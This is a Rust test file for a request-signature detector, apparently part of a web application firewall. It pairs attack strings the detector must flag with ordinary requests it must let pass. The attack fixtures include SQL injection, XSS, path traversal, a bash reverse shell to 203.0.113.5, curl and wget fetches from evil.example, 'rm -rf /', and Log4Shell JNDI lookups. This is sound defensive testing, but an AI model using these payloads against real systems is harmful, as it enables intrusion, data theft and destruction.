use proptest::prelude::*;

use super::*;

fn all() -> Signatures {
    Signatures::compile(&Group::ALL).unwrap()
}

/// Findings in a place, the text given as the client would send it.
fn find(signatures: &Signatures, place: Place, text: &str) -> Vec<&'static str> {
    match place {
        Place::Path => signatures.in_path(text.as_bytes()),
        Place::Query => signatures.in_query(text.as_bytes()),
        Place::Header => signatures.in_header(text.as_bytes()),
        Place::Body => signatures.in_body(text.as_bytes(), BodyForm::Json),
    }
}

/// Each signature with text that it must find.
const ATTACKS: &[(&str, Place, &str)] = &[
    ("sql-tautology", Place::Query, "name=x'+or+'1'='1"),
    ("sql-tautology", Place::Query, "name=%27%20OR%201%3D1--"),
    ("sql-tautology", Place::Query, "name=%22)%20or%20(%22a%22=%22a"),
    ("sql-tautology", Place::Query, "name=a'/**/or/**/1/**/like/**/1"),
    ("sql-tautology", Place::Query, "name=a'||'1'='1"),
    ("sql-tautology", Place::Body, r#"{"user":"root' or 1=1 -- "}"#),
    (
        "sql-tautology",
        Place::Body,
        r#"{"user":"\u0027 or \u00271\u0027=\u00271"}"#,
    ),
    ("sql-numeric-tautology", Place::Query, "id=7%20or%201=1"),
    ("sql-numeric-tautology", Place::Query, "id=-1)+AND+(2>1"),
    ("sql-union", Place::Query, "id=1+UNION+ALL+SELECT+NULL,NULL--"),
    ("sql-union", Place::Query, "id=1%20union/**/select/**/1,2,3"),
    (
        "sql-union",
        Place::Query,
        "id=0+union+select+login,password+from+users--",
    ),
    ("sql-union", Place::Path, "/pets/1%20union%20select%20version(),2"),
    ("sql-stacked", Place::Query, "name=x');+DROP+TABLE+students;--"),
    (
        "sql-stacked",
        Place::Body,
        r#"{"name":"x'; delete from users where 1=1"}"#,
    ),
    ("sql-comment-end", Place::Query, "user=admin'--"),
    ("sql-comment-end", Place::Query, "user=admin'%23"),
    ("sql-delay", Place::Query, "id=1+and+sleep(5)"),
    ("sql-delay", Place::Query, "id=1';select+pg_sleep(10)--"),
    ("sql-delay", Place::Query, "id=1;waitfor+delay+'0:0:5'"),
    (
        "sql-delay",
        Place::Header,
        "x'xor(if(now()=sysdate(),benchmark(5000000,md5(1)),0))",
    ),
    (
        "sql-schema",
        Place::Query,
        "id=(select+table_name+from+information_schema.tables+limit+1)",
    ),
    ("sql-files", Place::Query, "q=1;exec+master..xp_cmdshell+'dir'"),
    ("sql-files", Place::Query, "q=x+into+outfile+'/var/www/a.php'"),
    ("xss-script", Place::Query, "q=<script>alert(1)</script>"),
    ("xss-script", Place::Query, "q=%3CScRiPt%20src=//evil.example/a.js%3E"),
    (
        "xss-script",
        Place::Query,
        "q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
    ),
    (
        "xss-script",
        Place::Body,
        r#"{"bio":"\u003cscript\u003efetch('//evil.example')\u003c/script\u003e"}"#,
    ),
    ("xss-handler", Place::Query, "q=<img+src=x+onerror=alert(1)>"),
    (
        "xss-handler",
        Place::Body,
        r#"{"bio":"<img src=x onerror=\"alert(1)\">"}"#,
    ),
    ("xss-handler", Place::Query, "q=%3Csvg/onload%3Dalert(1)%3E"),
    (
        "xss-attribute",
        Place::Query,
        "q=%22%20onfocus%3Dalert(1)%20autofocus%3D%22",
    ),
    ("xss-scheme", Place::Query, "next=javascript:alert(1)"),
    ("xss-scheme", Place::Query, "next=java%09script:alert(1)"),
    ("xss-scheme", Place::Body, r#"{"bio":"<a href='javascript:alert(1)'>"}"#),
    ("xss-embed", Place::Query, "q=%3Ciframe%20src=//evil.example%3E"),
    ("xss-data", Place::Query, "next=data:text/html;base64,PHNjcmlwdD4="),
    ("path-parent", Place::Path, "/files/../../etc/passwd"),
    ("path-parent", Place::Path, "/files/%2e%2e%2fsecret"),
    ("path-parent", Place::Path, "/files/..%5c..%5csecret"),
    ("path-parent", Place::Path, "/files/..;/manager/html"),
    ("path-parent", Place::Query, "file=../../config.yaml"),
    ("path-parent", Place::Path, "/files/%c0%ae%c0%ae%c0%afsecret"),
    ("path-parent", Place::Path, "/files/%252e%252e%252fsecret"),
    ("path-parent-end", Place::Path, "/files/.."),
    ("path-system-file", Place::Query, "file=/etc/passwd"),
    ("path-system-file", Place::Path, "/static/.git/config"),
    ("path-system-file", Place::Path, "/.env"),
    (
        "path-system-file",
        Place::Query,
        "file=C:%5CWindows%5Csystem32%5Cdrivers",
    ),
    (
        "path-system-file-relative",
        Place::Body,
        r#"{"file":"../../../../etc/passwd"}"#,
    ),
    ("path-null", Place::Path, "/files/a.php%00.png"),
    (
        "path-wrapper",
        Place::Query,
        "page=php://filter/convert.base64-encode/resource=index",
    ),
    ("command-chain", Place::Query, "host=127.0.0.1;cat+/etc/hosts"),
    ("command-chain", Place::Query, "host=x%7Ccurl+http://evil.example/a"),
    ("command-chain", Place::Query, "host=$(wget+-q+evil.example/a)"),
    ("command-chain", Place::Query, "host=x%26%26rm+-rf+/"),
    ("command-probe", Place::Query, "host=x;id"),
    ("command-probe", Place::Query, "host=%60whoami%60"),
    ("command-probe", Place::Query, "host=x%7C%7Csleep+10"),
    ("command-shell", Place::Query, "cmd=/bin/bash"),
    ("command-shell", Place::Header, "x; cmd.exe /c dir"),
    (
        "command-reverse-shell",
        Place::Body,
        r#"{"name":"x; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"}"#,
    ),
    ("command-function", Place::Header, "() { :; }; echo vulnerable"),
    ("command-field-separator", Place::Query, "host=x;cat${IFS}a"),
    ("jndi-lookup", Place::Header, "${jndi:ldap://evil.example/a}"),
    (
        "jndi-lookup",
        Place::Query,
        "q=%24%7Bjndi%3Armi%3A%2F%2Fevil.example%2Fa%7D",
    ),
    ("jndi-lookup", Place::Body, r#"{"agent":"${JNDI:dns://evil.example}"}"#),
    (
        "jndi-nested",
        Place::Header,
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    ),
    (
        "jndi-nested",
        Place::Header,
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
    ),
    (
        "jndi-nested",
        Place::Header,
        "${${env:X:-j}ndi${env:X:-:}ldap://evil.example/a}",
    ),
    ("ldap-filter", Place::Query, "user=*)(uid=*))(|(uid=*"),
    ("ldap-filter", Place::Body, r#"{"user":"admin)(&(objectClass=*)"}"#),
    ("ldap-wildcard", Place::Query, "user=*)(|(x=*"),
    ("nosql-parameter", Place::Query, "password[$ne]=x"),
    ("nosql-parameter", Place::Query, "password%5B%24regex%5D=.*"),
    ("nosql-operator", Place::Body, r#"{"user":"a","password":{"$ne":null}}"#),
    ("nosql-operator", Place::Query, "filter={\"$where\":\"1\"}"),
    ("nosql-script", Place::Query, "name=x'||this.password=='a"),
    (
        "ssrf-metadata",
        Place::Query,
        "url=http://169.254.169.254/latest/meta-data/",
    ),
    (
        "ssrf-metadata",
        Place::Query,
        "url=http%3A%2F%2Fmetadata.google.internal%2F",
    ),
    (
        "ssrf-metadata",
        Place::Body,
        r#"{"callback":"http://a@169.254.169.254:80/"}"#,
    ),
    ("ssrf-metadata", Place::Query, "url=http://2852039166/"),
    ("ssrf-metadata", Place::Query, "url=http://[fd00:ec2::254]/"),
    ("ssrf-metadata", Place::Query, "host=metadata.google.internal"),
    ("ssrf-metadata", Place::Query, "host=169.254.169.254"),
    ("path-system-file", Place::Query, "file=boot.ini"),
    ("command-shell", Place::Query, "cmd=/bin/sh"),
    ("ssrf-scheme", Place::Query, "url=gopher://127.0.0.1:6379/_x"),
    ("ssrf-scheme", Place::Query, "url=file:///etc/hostname"),
    ("crlf-header", Place::Query, "next=/a%0d%0aSet-Cookie:%20a=b"),
    (
        "crlf-header",
        Place::Query,
        "next=/a%0aLocation:%20https://evil.example",
    ),
    ("crlf-message", Place::Query, "next=/a%0d%0a%0d%0aHTTP/1.1%20200%20OK"),
    ("crlf-path", Place::Path, "/a%0d%0ab"),
    (DOUBLE_ENCODING, Place::Path, "/files/%252e%252e%252fsecret"),
    (
        DOUBLE_ENCODING,
        Place::Query,
        "q=%253Cscript%253Ealert(1)%253C/script%253E",
    ),
    (OVERLONG, Place::Path, "/files/%c0%ae%c0%ae%c0%afsecret"),
    (OVERLONG, Place::Query, "q=%e0%80%bcscript"),
];

/// What people and programs send every day.
const ORDINARY: &[(Place, &str)] = &[
    (Place::Query, "name=O'Brien"),
    (Place::Query, "name=O%27Brien+and+Sons"),
    (Place::Query, "name=D'Angelo%20or%20D%27Amico"),
    (Place::Query, "q=rock+'n'+roll"),
    (Place::Query, "q=the+90's+%231+hits"),
    (Place::Query, "q=%22exact+phrase%22+or+%22another+one%22"),
    (Place::Query, "q='yes'+or+'no'"),
    (Place::Query, "q=student+union+select+committee"),
    (Place::Query, "q=western+union+-+select+a+branch"),
    (Place::Query, "q=drop+table+lamp"),
    (Place::Query, "q=how+to+sleep+(8+hours)"),
    (Place::Query, "q=1+and+2"),
    (Place::Query, "q=5+or+6+people"),
    (Place::Query, "q=C%23+or+F%23"),
    (Place::Query, "q=C%2B%2B+--+a+primer"),
    (Place::Query, "q=JavaScript:+The+Good+Parts"),
    (Place::Query, "q=javascript:+The+Definitive+Guide+(7th+ed.)"),
    (Place::Query, "q=a+%3C+b+and+b+%3E+c"),
    (Place::Query, "q=x<y&z>1"),
    (Place::Query, "q=I+%3C3+online+shopping+on=sale"),
    (Place::Query, "q=Grüße+aus+München+%26+Köln;+schöne+Füße"),
    (Place::Query, "q=Stra%C3%9Fe+%22Am+Markt%22+und+Umgebung"),
    (Place::Query, "q=Caf%C3%A9+%E2%82%AC+5,50"),
    (Place::Query, "q=%E0%A4%B9%E0%A4%BF%E0%A4%A8%E0%A5%8D%E0%A4%A6%E0%A5%80"),
    (Place::Query, "q=cats;+dogs;+id+cards"),
    (Place::Query, "fields=name|id&sort=-created_at"),
    (
        Place::Query,
        "fields=id,name,owner.id&page%5Bsize%5D=20&filter%5Bstate%5D=open",
    ),
    (Place::Query, "q=salt+%26+pepper&x=a%26b"),
    (
        Place::Query,
        "redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%3Fnext%3D%252Fhome%252Fme&state=a%2Bb",
    ),
    (Place::Query, "redirect_uri=http://localhost:3000/callback"),
    (Place::Query, "url=https://example.com/a/b.html?x=1%26y=2"),
    (Place::Query, "text=first+line%0D%0Asecond+line%0ALocation:+Berlin"),
    (Place::Query, "price=$5&currency=$US"),
    (Place::Query, "filter=(cn+eq+'x')"),
    (Place::Query, "range=1..10&version=1.2.3"),
    (Place::Query, "id=2852039166&x=0xa9fea9fe"),
    (Place::Query, "ip=169.254.1.1&net=10.0.0.0/8"),
    (Place::Query, "file=report..final.pdf&dir=a/b/c.d"),
    (Place::Query, "q=etc&path=docs/etc/notes.txt"),
    (Place::Query, "formula=f(x)+=+(a)(b)"),
    (
        Place::Query,
        "$filter=name%20eq%20%27O%27%27Brien%27%20and%20age%20gt%205",
    ),
    (Place::Query, "$select=id,name&$expand=items&$orderby=name%20desc"),
    (Place::Query, "%F0%9F%98%80=%F0%9F%8E%89"),
    (Place::Path, "/v1/pets/7/photos/front..side.jpg"),
    (Place::Path, "/files/a%20b%20(1).pdf"),
    (Place::Path, "/users/O'Brien/orders"),
    (Place::Path, "/wiki/C%2B%2B"),
    (Place::Path, "/.well-known/openid-configuration"),
    (Place::Path, "/repos/etc/passwordless"),
    (Place::Path, "/docs/environment.env.md"),
    (Place::Path, "/items;version=2/parts"),
    (
        Place::Header,
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    ),
    (
        Place::Header,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0",
    ),
    (
        Place::Header,
        "text/html,application/xhtml+xml;q=0.9,image/*;q=0.8,*/*;q=0.5",
    ),
    (Place::Header, "curl/8.5.0"),
    (Place::Header, "de-DE,de;q=0.9,en;q=0.8"),
    (Place::Header, "https://example.com/search?q=a%20b&page=2#top"),
    (Place::Header, "W/\"33a64df551425fcc55e4d42a148795d9f25f89d4\", \"x\""),
    (
        Place::Header,
        "attachment; filename=\"a b.pdf\"; filename*=UTF-8''a%20b.pdf",
    ),
    (Place::Header, "session=abc; theme=dark; id=5; ls=1"),
    (
        Place::Header,
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ),
    (Place::Header, "dGhlIHNhbXBsZSBub25jZQ=="),
    (Place::Header, "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    (
        Place::Body,
        r#"{"name":"Seán O'Brien","motto":"Don't stop 'til you get enough"}"#,
    ),
    (Place::Body, r#"{"op":"and","or":[{"a":"="},{"b":"<"}],"like":"x"}"#),
    (Place::Body, r#"{"a":"or","b":"and","c":"="}"#),
    (
        Place::Body,
        r#"{"text":"He said \"yes\" or \"no\"; and she's > 5 or < 3."}"#,
    ),
    (
        Place::Body,
        r#"{"sql":"SELECT id, name FROM users WHERE age > 18 AND city = 'Köln' ORDER BY name;"}"#,
    ),
    (
        Place::Body,
        r##"{"md":"# Title\n\n| id | name |\n|----|------|\n| 1 | `cat` |\n\n```sh\ncurl https://example.com | sh\nls -la; id\n```"}"##,
    ),
    (
        Place::Body,
        r#"{"code":"for (let i = 0; i < n; i++) { if (a && b || c) { console.log(`${i}: ${x[i]}`); } }"}"#,
    ),
    (
        Place::Body,
        r#"{"code":"import x from '../../lib/x'; const f = () => { return x; };"}"#,
    ),
    (Place::Body, r#"{"code":"time.sleep(5)\nprint('done')  # ok"}"#),
    (Place::Body, r#"{"code":"fn main() { println!(\"{}\", 1); }"}"#),
    (
        Place::Body,
        r#"{"css":"a:hover{color:red} .on{opacity:.5}","html":"<p class=\"online\">on = off</p><b>x</b>"}"#,
    ),
    (
        Place::Body,
        r#"{"md":"[link](https://example.com/a?b=c&d=e) **bold** <https://example.com> a < b"}"#,
    ),
    (
        Place::Body,
        r##"{"$schema":"https://json-schema.org/draft/2020-12/schema","$ref":"#/$defs/a","$id":"x"}"##,
    ),
    (Place::Body, r#"{"math":"f(x)(y) = (a)(b)","smile":":-) (: ;)"}"#),
    (
        Place::Body,
        r#"{"image":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"}"#,
    ),
    (
        Place::Body,
        r#"{"cron":"*/5 * * * *","glob":"**/*.rs","re":"^(a|b)*$","path":"C:\\Users\\me\\file.txt"}"#,
    ),
    (Place::Body, r#"{"tpl":"Hello ${user.name}, ${greeting:-welcome}!"}"#),
    (
        Place::Body,
        r#"{"q":"Wir wählen 'A' oder 'B' und > 5 – größer als früher; z. B. „so“."}"#,
    ),
    (
        Place::Body,
        r#"{"log":"GET /etc/passwd was blocked; see /etc/hosts and ../docs"}"#,
    ),
];

#[test]
fn attacks_are_found() {
    let signatures = all();
    let missed: Vec<_> = ATTACKS
        .iter()
        .map(|(id, place, text)| (id, text, find(&signatures, *place, text)))
        .filter(|(id, _, found)| !found.contains(id))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn ordinary_requests_are_left_alone() {
    let signatures = all();
    let wrong: Vec<_> = ORDINARY
        .iter()
        .map(|(place, text)| (text, find(&signatures, *place, text)))
        .filter(|(_, found)| !found.is_empty())
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn every_signature_is_in_order() {
    for (at, signature) in SIGNATURES.iter().enumerate() {
        let id = signature.id;
        assert!(id.starts_with(&format!("{}-", signature.group.name())), "{id}");
        assert!(
            SIGNATURES[..at].iter().all(|other| other.id != id),
            "{id} is there twice"
        );
        assert!(ATTACKS.iter().any(|(attack, ..)| *attack == id), "{id} has no example");
        assert!(!signature.words.is_empty() && !signature.places.is_empty(), "{id}");
    }
    for (id, place, _) in ATTACKS {
        if let Some(signature) = SIGNATURES.iter().find(|signature| signature.id == *id) {
            assert!(signature.places.contains(place), "{id} does not apply there");
        }
    }
}

#[test]
fn words_never_hide_a_match() {
    let signatures = all();
    for (_, _, text) in ATTACKS {
        let text = decode::percent(text.as_bytes(), true).text;
        for active in &signatures.active {
            if active.pattern.is_match(&text) {
                let lower = text.to_ascii_lowercase();
                let has_word = active
                    .signature
                    .words
                    .iter()
                    .any(|word| memchr::memmem::find(&lower, word.as_bytes()).is_some());
                assert!(has_word, "{}: {}", active.signature.id, text.escape_ascii());
            }
        }
    }
}

/// The parts that a path or a query is searched by, decoded.
fn parts(text: &str) -> Vec<Vec<u8>> {
    let parts = text
        .split(['&', '='])
        .map(|part| decode::percent(part.as_bytes(), true).text);
    parts.chain([decode::percent(text.as_bytes(), false).text]).collect()
}

#[test]
fn what_is_skipped_matches_nothing() {
    let signatures = all();
    let examples = ATTACKS
        .iter()
        .map(|(.., text)| *text)
        .chain(ORDINARY.iter().map(|(_, text)| *text));
    for part in examples.flat_map(parts).filter(|part| decode::is_plain(part)) {
        for active in &signatures.active {
            assert!(
                !active.pattern.is_match(&part),
                "{}: {}",
                active.signature.id,
                part.escape_ascii()
            );
        }
    }
}

#[test]
fn only_the_groups_asked_for_are_looked_for() {
    let sql = Signatures::compile(&[Group::Sql]).unwrap();
    assert_eq!(
        find(&sql, Place::Query, "a=<script>alert(1)</script>&b=x'+or+1=1"),
        ["sql-tautology"]
    );
    assert!(find(&sql, Place::Path, "/%c0%ae%c0%ae/%252e%252e%252f").is_empty());
    let none = Signatures::compile(&[]).unwrap();
    assert!(
        ATTACKS
            .iter()
            .all(|(_, place, text)| find(&none, *place, text).is_empty())
    );
}

#[test]
fn forms_are_read_as_queries_and_each_finding_is_named_once() {
    let signatures = all();
    let found = signatures.in_body(
        b"a=%3Cscript%3Ealert(1)%3C/script%3E&b=<script>alert(2)</script>",
        BodyForm::Form,
    );
    assert_eq!(found, ["xss-script"]);
    assert_eq!(
        signatures.in_body(b"<script>alert(1)</script>", BodyForm::Text),
        ["xss-script"]
    );
}

proptest! {
    #[test]
    fn text_that_is_skipped_holds_nothing(text in "[a-zA-Z0-9_,~&=/.-]{0,40}") {
        let signatures = all_once();
        prop_assume!(decode::is_plain(text.as_bytes()));
        for place in [Place::Path, Place::Query, Place::Header] {
            let mut found = Vec::new();
            signatures.search(text.as_bytes(), place, &mut found);
            prop_assert!(found.is_empty(), "{text}: {found:?}");
        }
    }

    #[test]
    fn no_bytes_make_it_panic(text in proptest::collection::vec(any::<u8>(), 0..100)) {
        let signatures = all_once();
        let _ = (signatures.in_path(&text), signatures.in_query(&text), signatures.in_header(&text));
        let _ = signatures.in_body(&text, BodyForm::Json);
    }

    #[test]
    fn base64_is_ordinary(bytes in proptest::collection::vec(any::<u8>(), 0..90)) {
        use base64::{Engine, engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD}};
        let signatures = all_once();
        let (standard, url) = (STANDARD.encode(&bytes), URL_SAFE_NO_PAD.encode(&bytes));
        prop_assert!(find(signatures, Place::Header, &standard).is_empty(), "{standard}");
        prop_assert!(find(signatures, Place::Query, &url).is_empty(), "{url}");
        prop_assert!(find(signatures, Place::Body, &format!("{{\"a\":\"{standard}\"}}")).is_empty(), "{standard}");
    }
}

/// Compiled once for all cases of a property.
fn all_once() -> &'static Signatures {
    static ALL: std::sync::OnceLock<Signatures> = std::sync::OnceLock::new();
    ALL.get_or_init(all)
}
